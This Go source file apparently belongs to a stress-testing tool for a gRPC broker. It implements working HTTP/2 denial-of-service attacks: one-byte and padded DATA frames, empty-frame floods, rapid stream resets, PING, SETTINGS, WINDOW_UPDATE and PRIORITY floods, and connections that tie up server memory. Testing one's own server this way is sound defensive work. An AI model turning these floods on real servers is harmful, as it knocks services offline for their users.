// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
)

// batch is the number of small frames that are sent by one write.
const batch = 1000

// manyFrames are frames that are allowed, but cost the broker more than the attacker.
func manyFrames() []attack {
	all := []attack{
		{
			name: "data-of-1-byte", about: "8 connections with messages of 1 MiB in frames of one byte", tested: true,
			run: tinyData(methodHash, methodExchange),
		},
		{
			name: "data-of-1-byte-waiting", about: "20 connections with 50 calls each that wait for memory, with 1,000 frames of one byte and then 20 KiB", tested: true,
			run: tinyDataWaiting(20, 50, 20<<10, manner{}),
		},
		{
			name: "data-of-1-byte-connections", about: "1,000 such calls, each by a connection of its own and with 7 KiB of headers",
			run: tinyDataWaiting(1000, 1, 20<<10, manner{}, [2]string{"x-large", strings.Repeat("x", 7<<10)}),
		},
		{
			name: "beyond-the-window-waiting", about: "20 connections with 50 calls each that wait for memory and send 64 KiB, more than they may", tested: true,
			run: tinyDataWaiting(20, 50, 63<<10, manner{deaf: true}),
		},
		{
			name: "data-padded", about: "8 connections with messages of 1 MiB in frames of one byte and 255 bytes of padding",
			run: overWires(8, manner{}, paddedData),
		},
		{
			name: "data-empty", about: "8 connections with calls whose data goes on in empty frames for ever", tested: true,
			run: floods(8, func(w *wire, f *http2.Framer) error {
				for range batch {
					if err := f.WriteData(1, false, nil); err != nil {
						return err
					}
				}
				return nil
			}),
		},
		{
			name: "rapid-reset", about: "8 connections that open calls and reset them at once", tested: true,
			run: floods(8, func(w *wire, f *http2.Framer) error { return resets(w, f, false) }),
		},
		{
			name: "rapid-reset-data", about: "the same with the data of a small hash before the reset",
			run: floods(8, func(w *wire, f *http2.Framer) error { return resets(w, f, true) }),
		},
	}
	for _, flood := range []struct {
		name, what string
		tested     bool
		frame      func(f *http2.Framer, i uint32) error
	}{
		{"ping", "PING", true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) }},
		{"ping-ack", "PING that answer none", false, func(f *http2.Framer, _ uint32) error { return f.WritePing(true, [8]byte{1}) }},
		{"settings", "SETTINGS", true, func(f *http2.Framer, _ uint32) error { return f.WriteSettings() }},
		{"settings-window", "SETTINGS that change the windows", false, func(f *http2.Framer, i uint32) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 100 + i%100})
		}},
		{"settings-table", "SETTINGS that change the table of headers", false, func(f *http2.Framer, i uint32) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096 * (i % 2)})
		}},
		{"window-update", "WINDOW_UPDATE of one byte for a call", true, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(1, 1) }},
		{"window-update-connection", "WINDOW_UPDATE of one byte for the connection", false, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) }},
		{"priority", "PRIORITY", true, func(f *http2.Framer, i uint32) error {
			return f.WritePriority(1+2*(i%1000), http2.PriorityParam{StreamDep: 1001, Weight: 1})
		}},
		{"unknown-frame", "of a type that nobody knows", false, func(f *http2.Framer, _ uint32) error { return f.WriteRawFrame(0xbe, 0, 0, nil) }},
	} {
		all = append(all, attack{
			name: "flood-" + flood.name, about: "8 connections with an open call that send frames " + flood.what + " as fast as they can", tested: flood.tested,
			run: floods(8, func(w *wire, f *http2.Framer) error {
				for i := range uint32(batch) {
					if err := flood.frame(f, i); err != nil {
						return err
					}
				}
				return nil
			}),
		})
	}
	return all
}

// floods opens a call on each connection and sends frames for as long as the connection
// lasts. Connections that end are made again.
func floods(connections int, frames func(*wire, *http2.Framer) error) func(context.Context, *target) error {
	return overWires(connections, manner{}, func(w *wire, _ int) error {
		_, err := w.call(methodHash)
		for err == nil {
			err = w.write(func(f *http2.Framer) error { return frames(w, f) })
			w.target.tally.count("writes of many frames", 1)
		}
		return err
	})
}

// resets opens calls and resets them.
func resets(w *wire, f *http2.Framer, data bool) error {
	message := framed(hashMessage(32))
	for range batch / 10 {
		stream, err := w.headers(f, methodHash)
		if err != nil {
			return err
		}
		if data {
			if err := f.WriteData(stream, true, message); err != nil {
				return err
			}
		}
		if err := f.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return err
		}
		w.forget(stream)
	}
	return nil
}

// tinyData sends messages in frames of a byte, within the windows.
func tinyData(methods ...string) func(context.Context, *target) error {
	whole := map[string][]byte{methodHash: framed(hashMessage(mebibyte)), methodExchange: framed(exchanged(hashCall(1, mebibyte-100)))}
	return overWires(8, manner{}, func(w *wire, i int) error {
		for ; ; i++ {
			method := methods[i%len(methods)]
			stream, err := w.call(method)
			if err == nil {
				err = w.sendBytewise(stream, whole[method], true)
			}
			if err == nil {
				err = w.drain(16)
			}
			if err != nil {
				return err
			}
		}
	})
}

// tinyDataWaiting announces more than the broker has memory for, so that the data stays in
// gRPC's buffers.
func tinyDataWaiting(connections, calls, more int, m manner, fields ...[2]string) func(context.Context, *target) error {
	tiny, rest := append(announced(mebibyte), make([]byte, 1000)...), make([]byte, more)
	return overWires(connections, m, func(w *wire, _ int) error {
		for range calls {
			stream, err := w.call(methodHash, fields...)
			if err == nil {
				err = w.sendBytewise(stream, tiny, false)
			}
			if err == nil {
				err = w.send(stream, rest, false)
			}
			if err != nil {
				return err
			}
		}
		return w.hold()
	})
}

// sendBytewise sends data in frames of one byte each. The last byte may end the stream.
func (w *wire) sendBytewise(stream uint32, data []byte, last bool) error {
	var frames bytes.Buffer
	for len(data) > 0 {
		n, err := w.allowance(stream, min(len(data), batch))
		if err != nil {
			return err
		}
		frames.Reset()
		for i := range n {
			end := byte(0)
			if last && i == len(data)-1 {
				end = 1
			}
			frames.Write(binary.BigEndian.AppendUint32([]byte{0, 0, 1, byte(http2.FrameData), end}, stream))
			frames.WriteByte(data[i])
		}
		data = data[n:]
		w.writing.Lock()
		_, err = w.Write(frames.Bytes())
		w.writing.Unlock()
		if err != nil {
			return err
		}
	}
	return nil
}

// paddedData sends messages whose padding makes each byte take 257 bytes of the window.
func paddedData(w *wire, _ int) error {
	const padding, taken = 255, 257
	pad := make([]byte, padding)
	whole := framed(hashMessage(mebibyte))
	for {
		stream, err := w.call(methodHash)
		for i := 0; i < len(whole) && err == nil; i++ {
			for left := taken; left > 0 && err == nil; {
				var n int
				n, err = w.allowance(stream, left)
				left -= n
			}
			if err == nil {
				err = w.write(func(f *http2.Framer) error { return f.WriteDataPadded(stream, i == len(whole)-1, whole[i:i+1], pad) })
			}
		}
		if err != nil {
			return err
		}
	}
}
